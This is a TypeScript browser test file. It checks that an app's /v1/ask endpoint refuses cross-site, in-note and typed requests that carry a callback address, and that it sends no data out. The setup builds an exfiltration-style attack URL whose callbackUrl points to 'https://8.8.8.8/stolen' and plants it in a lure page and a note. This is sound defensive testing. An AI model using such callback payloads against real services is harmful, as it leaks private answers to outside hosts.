import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { sql } from 'kysely'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type BrowserApp, browserUnavailableReason, startBrowserApp, warnIfSkipped } from './browser-app.ts'

warnIfSkipped('links to the API in a signed-in browser')

const secret = 'vermilion'

describe.skipIf(browserUnavailableReason)('in a signed-in browser', () => {
  let app: BrowserApp
  let otherSite: Server
  let otherUrl: string
  let page: Page
  let problems: string[]
  /** Asks for an answer to be sent elsewhere. */
  let attack: string

  beforeAll(async () => {
    app = await startBrowserApp()
    await app.organization('acme')
    const ada = await app.person('acme', 'ada', { role: 'admin' })
    const callback = encodeURIComponent('https://8.8.8.8/stolen')
    attack = `${app.url}/v1/ask?question=What+colour+is+the+zebra%3F&callbackUrl=${callback}`
    await app.note('acme', { id: 'zebra', title: 'Zebra', content: `The zebra is ${secret}. [More](${attack})` })
    otherSite = createServer((_request, response) =>
      response
        .writeHead(200, { 'content-type': 'text/html' })
        .end(`<!doctype html><a id="link" href="${attack.replaceAll('&', '&amp;')}">Win a prize</a>`),
    )
    await new Promise<void>((resolve) => otherSite.listen(0, '127.0.0.1', resolve))
    // Another site than 127.0.0.1.
    otherUrl = `http://localhost:${(otherSite.address() as AddressInfo).port}`
    ;({ page, problems } = await app.openPage({ organizationId: 'acme', person: ada }))
  })
  afterAll(async () => {
    await app?.closeAll()
    otherSite?.close()
  })

  async function expectRefused() {
    await page.waitForURL('**/v1/ask?**')
    const text = await page.locator('body').textContent()
    expect(text).toContain('auth/unauthorized')
    expect(text).not.toContain(secret)
    const { rows } = await sql`select id from callback_delivery`.execute(app.database.unrestricted)
    expect(rows).toEqual([])
  }

  test('a link on another site to an answer with a callback address gets 401, and nothing is sent', async () => {
    await page.goto(otherUrl)
    await page.locator('#link').click()
    await expectRefused()
  })

  test('so does a link inside a note of our own', async () => {
    await page.goto('/notes/zebra')
    const link = page.getByRole('link', { name: 'More' })
    await link.click()
    await expectRefused()
  })

  test('so does an address typed into the browser', async () => {
    await page.goto(attack)
    await expectRefused()
  })

  test('the app works, and saves files that need the session', async () => {
    problems.length = 0
    await page.goto('/settings/audit')
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export CSV' }).click(),
    ])
    expect(download.suggestedFilename()).toBe('audit.csv')
    expect(readFileSync(await download.path(), 'utf8')).toMatch(/^id,at,/)
    expect(problems).toEqual([])
  })
})
